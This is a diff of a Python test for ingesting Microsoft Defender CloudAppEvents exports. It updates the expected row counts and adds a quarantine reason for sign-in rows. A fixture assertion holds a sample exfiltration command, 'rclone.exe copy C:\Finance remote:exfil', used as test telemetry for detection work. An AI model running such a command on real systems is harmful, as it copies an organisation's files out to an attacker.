@@ -13,7 +13,7 @@ EXPORT = FIXTURES / "sources" / "defender" / "advanced_hunting_export.json"
 def test_cloudappevents_app_access_context(store, settings):
     r = ingest_one(store, settings, EXPORT)
     assert r.source_format == "defender_cloudappevents"
-    assert (r.read, r.stored, r.duplicate, r.quarantined) == (5, 3, 1, 1)
+    assert (r.read, r.stored, r.duplicate, r.quarantined) == (6, 3, 1, 2)
     got = rows(store, "activities", "defender_cloudappevents")
 
     rule = got["f3c2b1a0-9e8d-4c7b-a6f5-e4d3c2b1a098"]
@@ -46,7 +46,10 @@ def test_cloudappevents_app_access_context(store, settings):
                                                                         "powershell.exe")
     assert json.loads(proc["details"])["ProcessCommandLine"] == "rclone.exe copy C:\\Finance remote:exfil"
 
-    assert quarantine_reasons(store, EXPORT) == ["no ActionType: not a Defender advanced-hunting event row"]
+    assert quarantine_reasons(store, EXPORT) == [
+        "no ActionType: not a Defender advanced-hunting event row",
+        "a Defender sign-in row (AADSignInEventsBeta / EntraIdSignInEvents), not an activity: ingest the Entra "
+        "SigninLogs export for sign-ins"]
 
 
 def test_golden_saml_sample_mixed_tables(store, settings):
